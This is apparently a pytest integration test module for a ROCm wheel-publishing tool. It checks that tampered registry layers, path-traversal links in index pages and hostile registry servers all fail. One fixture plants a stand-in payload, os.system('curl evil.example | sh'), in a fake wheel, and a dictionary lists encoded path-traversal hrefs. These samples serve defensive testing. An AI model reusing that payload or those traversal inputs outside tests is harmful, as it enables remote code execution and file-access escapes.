"""Reads that stop early, and answers that never end: nothing is trusted before its bytes were checked
(issue #11, defects 1 and 8).

* A wheels image is read through ``tarfile``'s stream mode, which stops at the archive's end marker.
  A layer whose stored bytes are not the ones its digest names — another tar with its own matching
  ``SHA256SUMS``, padded past the reader's 1 MiB buffer, or the real layer with bytes appended — must
  fail ``read_dist`` (the sensor's path without a sink, ``publish_wheels``' path with one), never
  yield wheels. The layer is corrupted where a real registry keeps it: in the storage of a throwaway
  ``docker-registry`` of this module, which serves whatever its files hold.
* Registry listings and JSON answers come from servers we do not control: a tag list that pages
  forever or in a circle, a tag page or token answer of many MiB. Each must end Fatal, naming the
  registry and repository, after a bounded number of requests and bytes. The hostile servers are
  real HTTP servers (``tests/support/net.py``), one per test; the ECR ones answer boto3 as ECR would.
"""

from __future__ import annotations

import contextlib
import hashlib
import io
import json
import os
import tarfile
import tracemalloc
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import parse_qs, quote, urlsplit

import pytest

from rocm_release.adapters.registry.ecr import EcrRegistry
from rocm_release.adapters.registry.oci import MAX_TAG_PAGE_BYTES, OciRegistry
from rocm_release.adapters.registry.oci_auth import MAX_TOKEN_BYTES
from rocm_release.adapters.store import StorePath, observe_published, store_root
from rocm_release.adapters.wheels_image import file_sink, read_dist
from rocm_release.adapters.wheels_publish import NotPublished, promote_index, publish_wheels, read_published
from rocm_release.core.index import IndexPageError
from rocm_release.core.names import OCI_MANIFEST
from rocm_release.core.registry import MAX_LIST_PAGES, FatalRegistryError, TransientRegistryError
from tests.support.moto import admin_client, set_connection
from tests.support.net import HttpServer, QuietHandler
from tests.support.registries import REGISTRY_BIN, LocalRegistry, make_image, running_registry, unique_repo
from tests.support.wheels import make_wheel

pytestmark = [
    pytest.mark.integration,
    pytest.mark.skipif(not REGISTRY_BIN.exists(), reason="needs Debian docker-registry (/usr/bin/docker-registry)"),
]

PAST_THE_BUFFER = 3 << 20  # more than BlobReader's 1 MiB buffer and one 1 MiB chunk of the answer


@pytest.fixture(scope="module")
def registry(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LocalRegistry]:
    with running_registry(tmp_path_factory.mktemp("partial-reads")) as reg:
        yield reg


@pytest.fixture
def client(registry: LocalRegistry) -> Iterator[OciRegistry]:
    with OciRegistry(registry.host, scheme="http", connection_id="test_cache") as reg:
        yield reg


# --------------------------------------------------------------------------------------------
# Defect 1: a layer counts only once it was read to its end and matched its digest


def dist_layer(folder: Path, payload: bytes, padding: bytes = b"") -> tuple[bytes, str]:
    """A tar.gz layer with /dist/<a real wheel> and its SHA256SUMS, then ``padding`` (after the gzip end)."""
    wheel = make_wheel(folder, "demo", "0.1", modules={"demo/__init__.py": payload})
    data = wheel.read_bytes()
    sums = f"{hashlib.sha256(data).hexdigest()}  {wheel.name}\n".encode()
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
        for name, content in ((f"dist/{wheel.name}", data), ("dist/SHA256SUMS", sums)):
            info = tarfile.TarInfo(name)
            info.size = len(content)
            tar.addfile(info, io.BytesIO(content))
    wheel.unlink()
    return buffer.getvalue() + padding, hashlib.sha256(data).hexdigest()


def stored_blob(registry: LocalRegistry, digest: str) -> Path:
    hex_digest = digest.split(":", 1)[1]
    return registry.root / "data/docker/registry/v2/blobs/sha256" / hex_digest[:2] / hex_digest / "data"


def substitute(registry: LocalRegistry, tmp_path: Path, how: str) -> tuple[str, str, str]:
    """Push a wheels image, then change its layer's stored bytes as ``how`` says.

    Returns (repository, image digest, layer digest). The substitutes are valid wheels images
    themselves: their /dist verifies against their own SHA256SUMS.
    """
    repo = unique_repo()
    # A big, incompressible wheel for "same size", so that the layer is longer than any buffer.
    honest_payload = os.urandom(PAST_THE_BUFFER if how == "same size" else 64)
    layer, _ = dist_layer(tmp_path / "honest", honest_payload)
    image = make_image(registry.url, repo, "wheels", layers=[layer])
    layer_digest = image.layers[0][0]
    evil, _ = dist_layer(tmp_path / "evil", b"import os; os.system('curl evil.example | sh')\n")
    if how == "substituted":
        replacement = evil + os.urandom(PAST_THE_BUFFER)
    elif how == "same size":
        replacement = evil + os.urandom(len(layer) - len(evil))
    else:  # "trailing bytes": the honest layer, with bytes appended after its end
        replacement = layer + os.urandom(PAST_THE_BUFFER)
    stored_blob(registry, layer_digest).write_bytes(replacement)
    return repo, image.digest, layer_digest


HOW = ["substituted", "same size", "trailing bytes"]


@pytest.mark.parametrize("how", HOW)
def test_the_sensor_never_accepts_a_layer_whose_unread_tail_differs(
    registry: LocalRegistry, client: OciRegistry, tmp_path: Path, how: str
) -> None:
    """``read_dist`` without a sink (the wheels sensor's check): the layer's end is read and checked."""
    repo, digest, layer_digest = substitute(registry, tmp_path, how)
    with pytest.raises(FatalRegistryError, match=rf"{registry.host}/{repo}.*blob {layer_digest}") as err:
        read_dist(client, repo, digest)
    assert "longer than its declared" in str(err.value) or "does not verify" in str(err.value)


@pytest.mark.parametrize("how", HOW)
def test_publishing_never_gets_wheels_from_a_layer_whose_unread_tail_differs(
    registry: LocalRegistry, client: OciRegistry, tmp_path: Path, how: str
) -> None:
    """``read_dist`` with a sink (``publish_wheels``): it raises, so the caller drops its temporary folder."""
    repo, digest, layer_digest = substitute(registry, tmp_path, how)
    out = tmp_path / "raw"
    out.mkdir()
    with pytest.raises(FatalRegistryError, match=rf"blob {layer_digest}"):
        read_dist(client, repo, digest, sink=file_sink(out))


def test_an_honest_layer_is_read_to_its_end_in_bounded_memory(
    registry: LocalRegistry, client: OciRegistry, tmp_path: Path
) -> None:
    """The control: a real layer (a 24 MiB wheel) reads and verifies; nothing holds a whole layer.

    (The peak is about 8 MiB whatever the layer's size: 1 MiB buffers in httpx, BlobReader, tarfile's
    decompressor and read_dist's loop.)
    """
    repo = unique_repo()
    layer, wheel_sha = dist_layer(tmp_path, os.urandom(24 << 20))
    image = make_image(registry.url, repo, "wheels", layers=[layer])
    tracemalloc.start()
    try:
        files = read_dist(client, repo, image.digest)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert [(f.name, f.sha256) for f in files if f.name.endswith(".whl")] == [
        ("demo-0.1-py3-none-any.whl", wheel_sha)]
    assert peak < 12 << 20, f"read_dist peaked at {peak} bytes of Python allocations for a {len(layer)}-byte layer"


# --------------------------------------------------------------------------------------------
# Defect 8: an index page never leads a reader out of its folder (file:// and moto S3)

COMMIT_A, COMMIT_B, VARIANT = "a" * 40, "b" * 40, "rocm710"
STORE_CONN = "wheels_partial_reads"


@dataclass(frozen=True)
class Store:
    base: str  # <store>/rocm
    conn_id: str | None

    def url(self, commit: str) -> str:
        return f"{self.base}/{commit}/{VARIANT}/"

    def folder(self, commit: str) -> StorePath:
        return store_root(self.url(commit), self.conn_id)


@pytest.fixture(params=["file", "s3"])
def store(request: pytest.FixtureRequest, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Store:
    if request.param == "file":
        return Store(f"file://{tmp_path}/store/rocm", None)
    moto: str = request.getfixturevalue("moto_url")  # a moto server of this module's own (tests/conftest.py)
    set_connection(monkeypatch.setenv, STORE_CONN, moto)
    bucket = f"wheels-{uuid.uuid4().hex[:12]}"
    admin_client("s3", moto).create_bucket(Bucket=bucket)
    return Store(f"s3://{bucket}/rocm", STORE_CONN)


def quiet(_: str) -> None:
    pass


# Links from <store>/rocm/<B>/<variant>/demo/index.html to commit A's wheel, which is outside B's folder.
ESCAPES = {
    "encoded slashes": "../..%2F..%2F{a}%2F{variant}%2F{wheel}",
    "encoded dots and slashes": "../%2E%2E%2F%2E%2E%2F{a}%2F{variant}%2F{wheel}",
    "absolute path": "../{absolute}",
    "encoded backslashes": "../..%5C..%5C{a}%5C{variant}%5C{wheel}",
    "NUL": "../{wheel}%00.txt",
    "dot file": "../.{wheel}.0123456789abcdef.part",
}


def hostile_folder(store: Store, tmp_path: Path, how: str) -> tuple[str, str]:
    """Commit A published for real; commit B's pages link A's wheel (with its true sha256) as ``how`` says.

    Returns (B's URL, the wheel's file name).
    """
    wheel = make_wheel(tmp_path / "wheels", "demo", "0.1")
    publish_wheels([wheel], store.folder(COMMIT_A), store.url(COMMIT_A), quiet)
    outside = store.folder(COMMIT_A) / wheel.name
    absolute = quote(urlsplit(str(outside)).path, safe="")  # the path in the store, slashes as %2F
    href = ESCAPES[how].format(a=COMMIT_A, variant=VARIANT, wheel=quote(wheel.name), absolute=absolute)
    sha = hashlib.sha256(wheel.read_bytes()).hexdigest()
    folder = store.folder(COMMIT_B)
    if store.conn_id is None:
        (tmp_path / "store/rocm" / COMMIT_B / VARIANT / "demo").mkdir(parents=True)
    (folder / "demo" / "index.html").write_text(  # type: ignore[attr-defined]
        f'<!DOCTYPE html><html><body><a href="{href}#sha256={sha}">{wheel.name}</a></body></html>\n')
    (folder / "index.html").write_text(  # type: ignore[attr-defined]
        '<!DOCTYPE html><html><body><a href="demo/">demo</a></body></html>\n')
    return store.url(COMMIT_B), wheel.name


@pytest.mark.parametrize("how", list(ESCAPES))
def test_a_page_linking_outside_its_folder_is_not_published(store: Store, tmp_path: Path, how: str) -> None:
    where, _ = hostile_folder(store, tmp_path, how)
    observed = observe_published(store.folder(COMMIT_B), where)
    assert not observed.present
    assert "is not a plain file name" in observed.reason, observed.reason


@pytest.mark.parametrize("how", list(ESCAPES))
def test_reading_a_page_linking_outside_its_folder_is_fatal(store: Store, tmp_path: Path, how: str) -> None:
    """``read_published`` (promotion's and retention's reader of an alias) refuses the page."""
    where, _ = hostile_folder(store, tmp_path, how)
    with pytest.raises(IndexPageError, match="is not a plain file name"):
        read_published(store.folder(COMMIT_B), where)


@pytest.mark.parametrize("how", list(ESCAPES))
def test_promotion_never_points_nightly_outside_the_published_folder(store: Store, tmp_path: Path, how: str) -> None:
    where, _ = hostile_folder(store, tmp_path, how)
    alias_url = f"{store.base}/nightly/{VARIANT}/"
    alias = store_root(alias_url, store.conn_id)
    with pytest.raises(NotPublished, match="is not a plain file name"):
        promote_index(store.folder(COMMIT_B), where, alias, alias_url, commit=COMMIT_B, variant=VARIANT, log=quiet)
    assert read_published(alias, alias_url) is None


# --------------------------------------------------------------------------------------------
# Defect 8: listings that never end and answers that are too big (hostile servers, one per test)

PAST_THE_PAGE_CAP = MAX_LIST_PAGES + 50  # where a hostile server gives up, so old code ends too
REPO = "rocm/hostile"


class Answers(QuietHandler):
    """A request handler that answers JSON; ``server.answer(handler)`` decides what (set per test)."""

    def do_GET(self) -> None:  # noqa: N802 - http.server's name
        self.server.answer(self)  # type: ignore[attr-defined]

    do_POST = do_PUT = do_GET  # noqa: N815 - http.server's names

    def json(self, doc: object, headers: dict[str, str] | None = None, status: int = 200) -> None:
        body = json.dumps(doc).encode()
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        for name, value in (headers or {}).items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(body)


@contextlib.contextmanager
def hostile(answer: Callable[[Answers], None]) -> Iterator[tuple[HttpServer, list[str]]]:
    """A server answering every request with ``answer``; yields it and the request paths it saw."""
    seen: list[str] = []

    def record(handler: Answers) -> None:
        seen.append(handler.path)
        answer(handler)

    with HttpServer(Answers) as server:
        server.httpd.answer = record  # type: ignore[attr-defined]
        yield server, seen


def tag_page(handler: Answers, tags: list[str], next_last: str | None) -> None:
    link = {"Link": f'</v2/{REPO}/tags/list?n=100&last={next_last}>; rel="next"'} if next_last else {}
    handler.json({"name": REPO, "tags": tags}, link)


def page_number(path: str) -> int:
    return int(parse_qs(urlsplit(path).query).get("last", ["0"])[0])


def test_a_tag_list_that_pages_on_and_on_is_fatal_after_the_page_cap() -> None:
    """Every next link is new (``last=1``, ``2``, …): only the page cap ends it."""
    def answer(handler: Answers) -> None:
        n = page_number(handler.path)
        tag_page(handler, [f"t{n}"], str(n + 1) if n + 1 < PAST_THE_PAGE_CAP else None)

    with hostile(answer) as (server, seen), OciRegistry(server.url.split("//")[1], scheme="http") as client:
        with pytest.raises(FatalRegistryError, match=rf"{server.url.split('//')[1]}/{REPO}: .*more than "
                                                     rf"{MAX_LIST_PAGES} pages"):
            list(client.tag_names(REPO))
    assert len(seen) == MAX_LIST_PAGES


def test_a_tag_list_that_pages_in_a_circle_is_fatal() -> None:
    """Page 0 → 1 → 2 → 1 …: the loop is seen on the first repeat. (Already so before issue #11.)"""
    requests = 0

    def answer(handler: Answers) -> None:
        nonlocal requests
        requests += 1
        n = page_number(handler.path)
        tag_page(handler, [f"t{n}"], None if requests >= 50 else "1" if n == 2 else str(n + 1))

    with hostile(answer) as (server, seen), OciRegistry(server.url.split("//")[1], scheme="http") as client:
        with pytest.raises(FatalRegistryError, match="pagination loops back"):
            list(client.tag_names(REPO))
    assert len(seen) == 3


def test_a_huge_tag_page_is_fatal_and_not_read_whole() -> None:
    tags = [f"nightly-{i:08d}-{'x' * 40}" for i in range(MAX_TAG_PAGE_BYTES // 50)]  # > the cap once quoted

    with hostile(lambda handler: tag_page(handler, tags, None)) as (server, _), \
            OciRegistry(server.url.split("//")[1], scheme="http") as client:
        with pytest.raises(FatalRegistryError, match=rf"/{REPO}: GET .*larger than {MAX_TAG_PAGE_BYTES} bytes"):
            list(client.tag_names(REPO))


def test_a_huge_token_answer_is_fatal() -> None:
    """A token server whose answer holds a usable token — and megabytes of padding."""
    def answer(handler: Answers) -> None:
        if handler.path.startswith("/token"):
            handler.json({"token": "fine", "padding": "x" * (2 * MAX_TOKEN_BYTES)})
        elif handler.headers.get("Authorization") != "Bearer fine":
            realm = f"http://{handler.headers['Host']}/token"
            handler.json({"errors": [{"code": "UNAUTHORIZED"}]}, {"WWW-Authenticate": f'Bearer realm="{realm}"'},
                         status=401)
        else:
            tag_page(handler, ["t0"], None)

    with hostile(answer) as (server, seen), OciRegistry(server.url.split("//")[1], scheme="http") as client:
        with pytest.raises(FatalRegistryError, match=rf"/{REPO}: token server .* more than {MAX_TOKEN_BYTES} bytes"):
            list(client.tag_names(REPO))
    assert [urlsplit(p).path for p in seen] == [f"/v2/{REPO}/tags/list", "/token"]


def ecr_page(handler: Answers, n: int, next_token: str | None) -> None:
    """A DescribeImages answer as ECR gives it (awsJson1_1): one image with one tag."""
    detail = {"registryId": "123456789012", "repositoryName": REPO, "imageDigest": "sha256:" + f"{n:064x}",
              "imageTags": [f"t{n}"], "imagePushedAt": 1_790_000_000 + n}
    body: dict[str, object] = {"imageDetails": [detail]}
    if next_token is not None:
        body["nextToken"] = next_token
    handler.send_response(200)
    raw = json.dumps(body).encode()
    handler.send_header("Content-Type", "application/x-amz-json-1.1")
    handler.send_header("Content-Length", str(len(raw)))
    handler.end_headers()
    handler.wfile.write(raw)


def asked_token(handler: Answers) -> int:
    length = int(handler.headers.get("Content-Length", "0"))
    token = json.loads(handler.rfile.read(length) or b"{}").get("nextToken")
    return int(token.removeprefix("token-")) if token else 0


def hostile_ecr(server: HttpServer) -> EcrRegistry:
    import boto3
    from botocore.config import Config

    client = boto3.client("ecr", endpoint_url=server.url, region_name="us-east-1", aws_access_key_id="testing",
                          aws_secret_access_key="testing", config=Config(retries={"total_max_attempts": 1}))
    return EcrRegistry("123456789012.dkr.ecr.us-east-1.amazonaws.com", client=client)


def test_an_ecr_listing_whose_next_token_comes_back_is_fatal() -> None:
    """token-1 → token-2 → token-1 …: botocore only notices a token given twice in a row."""
    requests = 0

    def answer(handler: Answers) -> None:
        nonlocal requests
        requests += 1
        n = asked_token(handler)
        ecr_page(handler, n, None if requests >= 50 else f"token-{1 if n == 2 else n + 1}")

    with hostile(answer) as (server, seen):
        with pytest.raises(FatalRegistryError, match=rf"/{REPO}: .*DescribeImages: pagination loops back"):
            list(hostile_ecr(server).list_tags(REPO))
    assert len(seen) == 3


def test_an_ecr_listing_that_pages_on_and_on_is_fatal_after_the_page_cap() -> None:
    def answer(handler: Answers) -> None:
        n = asked_token(handler)
        ecr_page(handler, n, f"token-{n + 1}" if n + 1 < PAST_THE_PAGE_CAP else None)

    with hostile(answer) as (server, seen):
        with pytest.raises(FatalRegistryError, match=rf"/{REPO}: .*more than {MAX_LIST_PAGES} pages"):
            list(hostile_ecr(server).list_tags(REPO))
    assert len(seen) == MAX_LIST_PAGES


def test_a_huge_error_answer_is_read_only_in_part() -> None:
    """A 500 to a manifest PUT, with 64 MiB of error page: transient, and at most 1 MiB of it is kept."""
    body = b"<html>" + b"x" * (64 << 20)

    def answer(handler: Answers) -> None:
        handler.rfile.read(int(handler.headers.get("Content-Length", "0")))
        handler.send_response(500)
        handler.send_header("Content-Type", "text/html")
        handler.send_header("Content-Length", str(len(body)))
        handler.end_headers()
        with contextlib.suppress(OSError):  # the client hangs up after what it keeps
            handler.wfile.write(body)

    with hostile(answer) as (server, _), OciRegistry(server.url.split("//")[1], scheme="http") as client:
        tracemalloc.start()
        try:
            with pytest.raises(TransientRegistryError, match=rf"/{REPO}: PUT manifest t: HTTP 500"):
                client.put_manifest(REPO, "t", b'{"schemaVersion": 2}', OCI_MANIFEST)
            _, peak = tracemalloc.get_traced_memory()
        finally:
            tracemalloc.stop()
    assert peak < 8 << 20, f"a 64 MiB error answer peaked at {peak} bytes of Python allocations"
